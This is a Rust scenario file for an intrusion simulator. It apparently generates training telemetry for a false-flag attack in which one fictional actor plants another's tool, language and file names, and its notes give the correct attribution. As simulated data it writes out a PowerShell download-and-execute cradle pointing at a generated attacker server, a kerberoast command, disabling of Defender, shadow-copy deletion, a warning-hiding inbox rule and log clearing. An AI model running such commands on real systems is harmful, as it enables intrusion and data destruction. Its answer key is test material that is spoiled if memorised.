//! Scenario `flag`: an actor plants the cheap marks of another, so that the wrong one is blamed.

use palisade_model::{ObservableKind, Vector};

use crate::acts::{SYSTEM, raw_disk, subject, wrote};
use crate::cloud::{AT_DESK, Cloud, SignIn};
use crate::plan::Plan;
use crate::scenario::decoys::{self, Grounds};
use crate::scenario::moves::{self, looks_up, reaches, risky, server, signs_in, text};
use crate::scenario::programs::{CMD, EXPLORER, POWERSHELL};
use crate::scenario::{ScenarioInfo, Scene, rules};
use crate::truth::ActorProfile;
use crate::world::{Role, World};

/// The scenario.
pub(crate) const SCENE: Scene = Scene {
    info: ScenarioInfo {
        name: "flag",
        title: "A borrowed mask",
        summary: "The organisers of games are entered through an archive and disturbed on the opening day. What lies \
                  about afterwards points at an actor known for its public tool, its language and its file names. All \
                  of that is cheap to copy, and was copied; what was not meant to be seen points elsewhere.",
        sources: &[
            "Public analyses of the disturbance of the games of February 2018, whose program carried a copied header",
            "Public essays on false flags: strings, compile times and tools that anybody can have",
        ],
        vectors: &[Vector::Host, Vector::Mail, Vector::Files, Vector::Influence],
    },
    label: "spielbund",
    end: 1_785_542_400, // 2026-08-01
    cast: &[
        (Role::Office, 7),
        (Role::Admin, 1),
        (Role::Server, 3),
        (Role::Controller, 2),
        (Role::LinuxWeb, 2),
    ],
    clouds: &[Cloud::SignIns, Cloud::Directory, Cloud::M365],
    ledger: false,
    plant,
    actors,
    notes: &[
        "Planted marks of RIME FOX: the name and hash of its public tool, words of its language, its habit of names. \
         The tool lies there and is run once, with no need.",
        "Not planted: the server of the first day is the one of the last; accounts and relays are those of ASH MAGPIE.",
        "An attribution that names RIME FOX was led by the nose; 'unknown' is a good answer, ASH MAGPIE the right one.",
    ],
};

const ACTOR: &str = "ASH MAGPIE";
const MASK: &str = "RIME FOX";

fn actors(world: &World) -> Vec<ActorProfile> {
    vec![
        super::actor(
            world,
            ACTOR,
            "the fictional Union of Karsk",
            &["T1566.001", "T1059.001", "T1047", "T1003.001", "T1561.002", "T1036"],
            &["rlx"],
            &["relays in the same two networks", "work between three and eleven, UTC"],
        ),
        super::actor(
            world,
            MASK,
            "the fictional Kingdom of Norrsund",
            &["T1566.002", "T1021.006", "T1003.003", "T1048"],
            &["frostpick"],
            &[
                "comments in Norrsundish",
                "files named after rivers",
                "a tool that it published itself in 2024",
            ],
        ),
    ]
}

/// One story, told in the order in which it happens.
fn plant(p: &mut Plan<'_>) {
    let w = p.world;
    let desk = p.take(Role::Office);
    let (tickets, screens, dc) = (p.take(Role::Server), p.take(Role::Server), p.take(Role::Controller));
    let who = w.owner(desk).clone();
    let admin = p.take_admin();
    let home = server(p, "results-feed", "net");
    let own = p.tool("rlx");
    let called = w.called("rlx");
    let own_place = &format!("C:\\Users\\Public\\{called}.exe");
    let quiet = format!("{called}.exe -q");
    let mask_name = w.called("frostpick");
    let borrowed = p.tool("frostpick");
    let exit = w.exits[1].clone();

    p.campaign("a borrowed mask", ACTOR);
    p.phase(25, 8);
    p.later(
        Vector::Mail,
        0,
        "an accreditation list in an archive",
        &["T1566.001"],
        &[(ObservableKind::Email, &who.mail), (ObservableKind::FileName, "accreditation.zip")],
    );
    p.step(1_000, "a script run from the archive", &["T1204.002", "T1059.007"], &[rules::ARCHIVE]);
    let explorer = p.standing(desk, &who.windows, EXPLORER);
    let place = format!("C:\\Users\\{}\\AppData\\Local\\Temp\\7zO0A1B2C3D", who.account);
    let script = p.run(
        desk,
        &explorer,
        "C:\\Windows\\System32\\wscript.exe",
        &format!("wscript.exe \"{place}\\list.js\""),
    );
    p.step(1_006, "it reaches its server", &["T1071.001"], &[rules::SCRIPT_OUT]);
    looks_up(p, desk, &script, &home);
    reaches(p, desk, &script, &home);
    let shell = moves::encoded(p, 1_030, desk, &script);
    p.step(
        1_034,
        "its text, with words of another language in it",
        &["T1059.001", "T1036"],
        &[rules::CRADLE],
    );
    // Planted for whoever reads it.
    text(
        p,
        desk,
        &format!(
            "# hamta nasta del fran alven\nIEX (New-Object Net.WebClient).DownloadString('https://{}/torne')",
            home.name
        ),
    );
    p.step(1_200, "its own program, from a public folder", &["T1105"], &[rules::WRITABLE_OUT]);
    let rlx = p.run_file(desk, &shell, own_place, &quiet, Some(&own));
    reaches(p, desk, &rlx, &home);

    p.phase(200, 4);
    moves::dump_memory(p, 0, desk, &admin.windows);
    let shell = moves::over_wmi(p, 2_000, (desk, tickets), &admin, "dir C:\\Tickets");
    p.step(
        2_600,
        "the other's public tool, named after a river, and run once",
        &["T1036.005", "T1105"],
        &[rules::KERBEROS, rules::WRITABLE_OUT],
    );
    let image = &format!("C:\\Users\\Public\\kalix\\{mask_name}.exe");
    let line = &format!("{mask_name}.exe kerberoast /stats");
    let mask = p.run_file(tickets, &shell, image, line, Some(&borrowed));
    reaches(p, tickets, &mask, &home);

    p.phase(420, 5);
    p.step(0, "the administrator's account signs in from a VPN exit", &["T1078.004"], &[rules::LEGACY]);
    let old =
        SignIn { client: "Other clients", two_factors: false, managed: false, agent: "BAV2ROPC", ..AT_DESK };
    signs_in(p, &admin.mail, &home.ip, &old);
    p.step(300, "the directory calls it anonymous", &["T1078.004"], &[rules::RISK]);
    risky(p, &admin.mail, &exit, "anonymizedIPAddress");
    p.step(700, "an inbox rule hides warnings", &["T1564.008"], &[rules::INBOX_HIDES]);
    let hide = [("Name", "alv"), ("BodyContainsWords", "security;virus"), ("DeleteMessage", "True")];
    moves::exchange(p, &admin.mail, &home.ip, "New-InboxRule", &hide);

    p.phase(700, 6);
    p.step(0, "the directory's secrets are replicated", &["T1003.006"], &[rules::REPLICATION]);
    let right = "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2";
    moves::goes(p, (tickets, dc), &admin);
    let by = p.who(dc, &admin);
    p.on(dc, crate::acts::directory_access(&by, right));
    let shell = moves::over_wmi(p, 900, (tickets, screens), &admin, "quser");
    p.step(1_000, "its own program again", &["T1570"], &[rules::WRITABLE_OUT]);
    let again = p.run_file(screens, &shell, own_place, &quiet, Some(&own));
    reaches(p, screens, &again, &home);

    p.phase(965, 10);
    p.step(0, "antivirus weakened on the opening day", &["T1685"], &[rules::DEFENDER_OFF]);
    let last = p.standing(screens, SYSTEM, own_place);
    p.run(screens, &last, POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true");
    if p.perhaps(4) {
        p.step(60, "shadow copies deleted", &["T1490"], &[rules::SHADOWS]);
        let line = "vssadmin.exe delete shadows /all /quiet";
        p.run(screens, &last, "C:\\Windows\\System32\\vssadmin.exe", line);
    }
    for (after, host) in [(200, screens), (260, tickets)] {
        p.step(after, "a program overwrites the disk", &["T1561.002"], &[rules::RAW_DISK]);
        let parent = p.standing(host, SYSTEM, "C:\\Windows\\System32\\svchost.exe");
        let run = p.run_file(host, &parent, own_place, &format!("{called}.exe -end"), Some(&own));
        p.on(host, raw_disk(&run));
    }
    p.step(400, "the other's tool is left in the open", &["T1036.005"], &[]);
    let system = p.standing(screens, SYSTEM, CMD);
    p.on(screens, wrote(&system, &format!("C:\\Users\\Public\\torne\\{mask_name}.exe")));
    p.step(600, "the Security log cleared", &["T1685.005"], &[rules::SECURITY_LOG]);
    moves::goes(p, (tickets, dc), &admin);
    let by = p.who(dc, &admin);
    p.on(dc, subject(1102, &by));
    p.later(
        Vector::Files,
        650,
        "a program whose header was copied from the other's tool",
        &["T1036"],
        &[(ObservableKind::Sha256, &own), (ObservableKind::Sha256, &borrowed)],
    );
    p.later(Vector::Influence, 3_600, "personas say at once who it was", &["T1585.001"], &[]);

    let grounds = Grounds {
        tested_desk: p.take(Role::Office),
        tested_server: p.take(Role::Server),
        careless_desk: p.take(Role::Office),
        hardened: p.take(Role::Controller),
        when: [330, 560, 800],
    };
    decoys::plant(p, &grounds);
}
